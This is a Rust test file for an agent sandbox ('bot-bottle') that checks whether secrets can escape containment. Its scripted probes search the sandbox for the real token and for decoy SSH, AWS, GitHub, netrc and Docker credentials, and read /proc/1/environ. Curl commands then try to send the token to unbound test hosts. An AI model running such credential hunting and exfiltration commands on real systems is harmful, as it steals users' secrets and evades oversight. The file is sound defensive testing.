//! Escape cases 31–34, credentials: the real secret lives in the launcher's environment (a `from_env` credential
//! bound to one intercepted host) and in a fake `$HOME` full of decoys; the bottle holds only a placeholder. The
//! bottle searches for the real values everywhere, and tries to send the placeholder where it is not bound.

use std::sync::OnceLock;

use crate::decoys::{self, Upstream};
use crate::lab::Lab;
use crate::scenario::{self, Env, Launch, Ran, Script, hex};

/// The launcher-side variable holding the real secret; inside, the same name holds the placeholder.
const TOKEN_VAR: &str = "BOTTLE_TEST_TOKEN";

struct Creds {
    lab: Lab,
    /// The bottle's audit log, read before its state directory went away.
    audit: Vec<serde_json::Value>,
    ran: Ran,
    secret: String,
    /// Decoys in the fake home and the host environment: (where, value).
    decoys: Vec<(String, String)>,
    tls: Upstream,
    plain: Upstream,
}

static FAMILY: OnceLock<Result<Creds, String>> = OnceLock::new();

fn family() -> Option<&'static Creds> {
    if scenario::skip() {
        return None;
    }
    let f = scenario::shared(&FAMILY, setup);
    f.ran.tools_present();
    Some(f)
}

fn policy_toml() -> String {
    format!(
        r#"[network]
allow = ["upstream.test:*", "other.test:*", "plain.test:*"]
allow_cidr = ["127.0.0.1/32"]

[network.resolve]
"upstream.test" = "127.0.0.1"
"other.test" = "127.0.0.1"
"plain.test" = "127.0.0.1"

[[credential]]
host = "upstream.test"
header = "authorization"
from_env = "{TOKEN_VAR}"
"#
    )
}

fn setup() -> Creds {
    let lab = Lab::new();
    let env = Env::new();
    let ca = decoys::mint_ca(&env.host());
    let tls = lab.enter(|| decoys::https("127.0.0.1:0", "tls", &ca, &["upstream.test", "other.test"]));
    let plain = lab.enter(|| decoys::http("127.0.0.1:0", "plain"));
    let secret = scenario::token("ghp_real_");
    let mut decoys = Vec::new();
    for (path, prefix) in [
        (".ssh/id_ed25519", "ssh-key-"),
        (".aws/credentials", "aws-secret-"),
        (".config/gh/hosts.yml", "gh-token-"),
        (".netrc", "netrc-password-"),
        (".docker/config.json", "docker-auth-"),
    ] {
        let value = scenario::token(prefix);
        env.home_file(path, &format!("secret = {value}\n"));
        decoys.push((format!("~/{path}"), value));
    }
    let host_env = scenario::token("host-env-");
    decoys.push(("the launcher's environment".into(), host_env.clone()));
    let host_file = scenario::token("host-file-");
    std::fs::write(env.host().join("secret.txt"), &host_file).unwrap();
    decoys.push(("a host file outside the workspace".into(), host_file));
    let policy = env.host().join("policy.toml");
    std::fs::write(&policy, policy_toml()).unwrap();
    let (t, p) = (tls.port, plain.port);

    let mut sc = Script::default();
    sc.tools(&["curl"]);
    let auth = format!("-H \"authorization: Bearer ${TOKEN_VAR}\"");
    let curl = |args: String| format!("curl -sS --fail --max-time 20 {args}");
    sc.shell(
        "ctl-placeholder",
        &format!("case \"${TOKEN_VAR}\" in bottle-placeholder-*) exit 0;; esac; exit 1"),
    )
    .shell("ctl-inject", &curl(format!("{auth} https://upstream.test:{t}/inject")));
    // 31: search for the real values
    sc.probe("c31-real-secret", &["find-secret", &hex(&secret)])
        .probe("c31-init-environ", &["read-file", "/proc/1/environ", &hex(&secret)]);
    for (i, (_, value)) in decoys.iter().enumerate() {
        sc.probe(&format!("c31-decoy-{i}"), &["find-secret", &hex(value)]);
    }
    // 32: the placeholder to a host it is not bound to
    sc.shell(
        "c32-other-host-header",
        &curl(format!("{auth} https://other.test:{t}/c32-header")),
    )
    .shell(
        "c32-other-host-query",
        &curl(format!("\"https://other.test:{t}/c32-query?token=${TOKEN_VAR}\"")),
    )
    .shell(
        "c32-bound-host-wrong-header",
        &curl(format!(
            "-H \"x-api-key: ${TOKEN_VAR}\" https://upstream.test:{t}/c32-wrong-header"
        )),
    );
    // 33: the placeholder over plain HTTP, to another host and to the bound host's name
    sc.shell(
        "c33-plain-other",
        &curl(format!("{auth} http://plain.test:{p}/c33-plain")),
    )
    .shell(
        "c33-plain-bound-name",
        &curl(format!("{auth} http://upstream.test:{p}/c33-bound")),
    );

    let flags = [
        "--policy".to_string(),
        policy.display().to_string(),
        "--upstream-ca".into(),
        ca.cert_path.display().to_string(),
    ];
    let ran = Launch::new(&lab, &env, "creds")
        .flags(&flags)
        .var(TOKEN_VAR, &secret)
        .var("BOTTLE_TEST_HOST_ONLY", &host_env)
        .run(&sc);
    Creds {
        ran,
        secret,
        decoys,
        tls,
        plain,
        lab,
        audit: env.audit("creds"),
    }
}

/// What the upstreams received, as text.
fn received(f: &Creds) -> Vec<String> {
    [&f.tls, &f.plain]
        .iter()
        .flat_map(|u| u.seen())
        .map(|s| s.text())
        .collect()
}

/// `bot-bottle run` with a policy file that must be refused; the agent would create a marker.
fn refused_launch(f: &Creds, name: &str, toml: &str) -> String {
    let env = Env::new();
    let path = env.host().join(format!("{name}.toml"));
    std::fs::write(&path, toml).unwrap();
    let marker = env.work().join(format!("{name}.marker"));
    let out = scenario::output_within(
        Launch::new(&f.lab, &env, name)
            .flags(&["--policy", &path.display().to_string()])
            .var(TOKEN_VAR, &f.secret)
            .command(&["touch", &marker.display().to_string()]),
        scenario::RUN_TIMEOUT,
    );
    assert_eq!(
        out.status.code(),
        Some(121),
        "the launch was not refused: {}",
        scenario::text(&out)
    );
    assert!(!marker.exists(), "the agent ran");
    String::from_utf8_lossy(&out.stderr).into_owned()
}

#[test]
fn case_31_only_the_placeholder_is_found_inside() {
    let Some(f) = family() else { return };
    f.ran.reached("ctl-placeholder");
    // The credential works, so the real value exists on the host side and the search below means something.
    f.ran.reached("ctl-inject");
    let injected = f
        .tls
        .seen()
        .into_iter()
        .find(|s| s.target == "/inject")
        .expect("no injected request");
    assert_eq!(
        injected.header("authorization"),
        Some(format!("Bearer {}", f.secret).as_str())
    );
    let v = f.ran.held("c31-real-secret");
    assert!(v.detail["processes"].as_u64().unwrap() >= 2, "{v:#?}");
    f.ran.held("c31-init-environ");
    for (i, (what, _)) in f.decoys.iter().enumerate() {
        let v = f.ran.verdict(&format!("c31-decoy-{i}"));
        assert!(
            !v.escaped,
            "ESCAPE: the secret in {what} is readable in the bottle: {v:#?}"
        );
    }
}

#[test]
fn case_32_placeholder_to_an_unbound_host_is_not_substituted_but_blocked_and_logged() {
    let Some(f) = family() else { return };
    for id in [
        "c32-other-host-header",
        "c32-other-host-query",
        "c32-bound-host-wrong-header",
    ] {
        f.ran.held(id);
    }
    let got = received(f);
    assert!(
        !got.iter().any(|t| t.contains("c32")),
        "a leaking request reached an upstream: {got:#?}"
    );
    assert!(!got.iter().any(|t| t.contains("bottle-placeholder-")), "{got:#?}");
    let leaks = f.audit.iter().filter(|l| l["event"] == "placeholder-leak").count();
    assert!(leaks >= 3, "each leak must be audited, found {leaks}");
}

#[test]
fn case_33_placeholder_over_plain_http_is_not_substituted() {
    let Some(f) = family() else { return };
    f.ran.held("c33-plain-other");
    f.ran.held("c33-plain-bound-name");
    let got = received(f);
    assert!(!got.iter().any(|t| t.contains("c33")), "{got:#?}");
    assert!(
        !got.iter()
            .any(|t| t.contains(&f.secret) && !t.starts_with("GET /inject")),
        "{got:#?}"
    );
}

#[test]
fn case_34_a_credential_for_a_host_without_interception_refuses_to_launch() {
    let Some(f) = family() else { return };
    let toml = format!(
        "[network]\nallow_cidr = [\"127.0.0.1/32\"]\n[network.resolve]\n\"pass.test\" = \"127.0.0.1\"\n\n\
         [[host]]\nname = \"pass.test\"\ntls = \"passthrough\"\n\n[[credential]]\nhost = \"pass.test\"\n\
         header = \"authorization\"\nfrom_env = \"{TOKEN_VAR}\"\n"
    );
    let err = refused_launch(f, "c34", &toml);
    assert!(err.contains("passthrough"), "{err}");
}

#[test]
fn extra_pass_env_of_a_credentials_real_secret_refuses_to_launch() {
    let Some(f) = family() else { return };
    let toml = format!("[bottle]\npass_env = [\"{TOKEN_VAR}\"]\n\n{}", policy_toml());
    let err = refused_launch(f, "x-pass-env", &toml);
    assert!(err.contains(TOKEN_VAR), "{err}");
}
